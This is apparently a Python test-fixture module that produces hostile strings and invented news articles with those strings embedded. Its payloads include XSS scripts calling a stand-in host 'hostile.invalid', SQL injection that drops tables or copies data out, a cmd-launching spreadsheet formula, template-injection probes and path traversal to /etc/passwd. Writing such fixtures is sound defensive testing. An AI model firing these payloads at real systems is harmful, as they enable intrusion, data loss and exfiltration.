"""Hostile strings and invented articles, for ``benchmarks.hostile``."""

from __future__ import annotations

import random

# Scripts that leave a mark, open a dialog, write to the console or ask for an address outside if a page runs them.
RUN = "window.hostile=1;alert(1);console.log('hostile');fetch('http://hostile.invalid/')"
MARKUP = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f'"><img src=x onerror="{RUN}">',
    f'\'><svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f'<iframe srcdoc="<script>{RUN.replace("window", "parent")}</script>"></iframe>',
    f"--><script>{RUN}</script><!--",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"<body onload={RUN.split(';')[0]}>",
    f'" autofocus onfocus="{RUN}" x="',
    f"<details open ontoggle={RUN.split(';')[0]}>",
    "<meta http-equiv=refresh content='0;url=http://hostile.invalid/'>",
    "<link rel=stylesheet href=http://hostile.invalid/x.css>",
    "<form action=http://hostile.invalid/><input type=submit>",
    "<base href=http://hostile.invalid/>",
    "\u2028</script>\u2029<!--<script>",
    "&lt;script&gt;window.hostile=1&lt;/script&gt; &#60;img src=x onerror=window.hostile=1&#62;",
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" \tjava\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    "//hostile.invalid/x",
    "file:///etc/passwd",
    'https://post.example/"onmouseover="window.hostile=1',
    "http://[bad",
    "https://user:secret@hostile.invalid/",
)
SQL = (
    "'; DROP TABLE articles; --",
    "' OR 1=1 --",
    '"; DELETE FROM quotations; --',
    "$1 $2 ? %s :name",
    "read_csv('/etc/passwd')",
    "'; COPY articles TO 'outside.csv'; --",
    "'; ATTACH 'outside.duckdb'; --",
)
FORMULAS = ("=HYPERLINK(\"http://hostile.invalid/\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=1+1\n=2")  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}{{ config }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{speaker.__class__} {0.__init__.__globals__}",
    "[red]x[/red] [/] [link=http://hostile.invalid]y[/link] :bomb:",
    "%(x)s %n {} $HOME `id` $(id)",
)
ESCAPES = (
    "\x1b[2J\x1b[31m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://hostile.invalid\x07link\x1b]8;;\x07",
    "\x9b31m\x90q\x9c",
    "\u202egpj.exe\u202c \u2066x\u2069",
    "\x00\x01\x08\x7f",
    "a\rb\x0bc\x0cd\x85e\u2028f\u2029g",
    "\x1bP+q544e\x1b\\",
)
PATHS = ("../../outside/x", "/outside/x", "..\\..\\outside\\x", "C:\\x", "~/x", "CON", "x/../../../outside", "%2e%2e%2fx", "\\\\host\\share")  # fmt: skip
PAYLOADS = (*MARKUP, *ADDRESSES, *SQL, *FORMULAS, *TEMPLATES, *ESCAPES, *PATHS)
_NAMES = ("Ruth Vale", "Anton Lund", "Mara Osei", "Jonas Brandt", "Edda Kerr")
_WORDS = [
    "harbour",
    "ferry",
    "storm",
    "council",
    "winter",
    "crew",
    "bridge",
    "lamp",
    "pilot",
    "yard",
    "crane",
    "bank",
    "road",
    "mill",
    "roof",
]


def payload(draw: random.Random) -> str:
    """One hostile string, or two joined."""
    return draw.choice(PAYLOADS) if draw.random() < 0.8 else draw.choice(PAYLOADS) + draw.choice(PAYLOADS)


def said(draw: random.Random, name: str | None = None) -> str:
    """A sentence with a quotation and its speaker.

    >>> said(random.Random(1), "Ruth Vale").endswith(",” said Ruth Vale.")
    True
    """
    words = " ".join(draw.choice(_WORDS) for _ in range(12))
    return f"“The {words} must wait,” said {name or draw.choice(_NAMES)}."


def story(draw: random.Random, paragraphs: int = 4) -> str:
    """An invented article."""
    return "\n\n".join(
        f"{said(draw)} The {' '.join(draw.choice(_WORDS) for _ in range(15))} stayed shut on Monday."
        for _ in range(paragraphs)
    )


def hostile_story(draw: random.Random) -> str:
    """An invented article with hostile strings in its text, in quotations, and in place of names."""
    return "\n\n".join(
        [
            story(draw, 1),
            f"{payload(draw)} {said(draw)}",
            said(draw, payload(draw)),
            f"“{payload(draw)},” said Ruth Vale, the {payload(draw)}.",
        ]
    )
